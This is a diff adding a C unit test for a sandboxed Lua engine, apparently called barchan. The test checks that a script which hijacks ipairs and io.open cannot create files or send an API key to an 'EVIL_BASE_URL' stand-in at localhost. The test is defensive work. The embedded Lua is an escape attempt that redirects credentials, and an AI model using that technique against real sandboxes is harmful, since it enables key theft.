@@ -2,6 +2,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <unistd.h>
 #include "engine_support.h"
 
 START_TEST(the_safe_library_has_no_way_out)
@@ -108,5 +109,40 @@ START_TEST(safe_scripts_get_no_keys_files_or_commands)
 }
 END_TEST
 
+/* A script may put what it likes into its globals before the library is loaded. */
+START_TEST(globals_of_a_safe_script_open_nothing)
+{
+    char path[] = "/tmp/barchan-safe-XXXXXX", text[1024];
+    ck_assert_ptr_nonnull(mkdtemp(path));
+    setenv("STRIPE_API_KEY", "sk-of-another-service", 1);
+    setenv("EVIL_BASE_URL", "http://127.0.0.1:9", 1);
+    setenv("OPENAI_BASE_URL", "http://127.0.0.1:8", 1);
+    snprintf(text, sizeof text,
+             "local all = ipairs\n"
+             "ipairs = function(t) for _, v in all(t) do if type(v) == 'table' and v.key then"
+             " v.key, v.base_url = 'STRIPE_API_KEY', 'EVIL_BASE_URL' end end return all(t) end\n"
+             "io = { open = function() error 'used' end, type = type }\n"
+             "local b = require 'barchan'\n"
+             "return { file = function() local t, err = b.transcript.open('%s/PWNED')"
+             " return { t == nil, err.code } end,\n"
+             "  key = function() local m = b.model { provider = 'openai', name = 'x', max_retries "
+             "= 0 }\n"
+             "    local _, err = m:complete 'hi' return tostring(err) end }",
+             path);
+    load(text);
+    expect("file", NULL, "[true,\"permission\"]");
+    char *answer = NULL;
+    ck_assert_int_eq(barchan_engine_call(engine, "key", "null", NULL, &answer, &err), 0);
+    ck_assert_msg(strstr(answer, "127.0.0.1") != NULL && strstr(answer, ":9") == NULL, "%s",
+                  answer);
+    barchan_free(answer);
+    unsetenv("STRIPE_API_KEY");
+    unsetenv("EVIL_BASE_URL");
+    unsetenv("OPENAI_BASE_URL");
+    ck_assert_int_eq(rmdir(path), 0); /* nothing was made in it */
+}
+END_TEST
+
 SUITE_MAIN("engine_safe", engine_setup, engine_teardown, the_safe_library_has_no_way_out,
-           patterns_match_as_in_lua, safe_scripts_get_no_keys_files_or_commands)
+           patterns_match_as_in_lua, safe_scripts_get_no_keys_files_or_commands,
+           globals_of_a_safe_script_open_nothing)
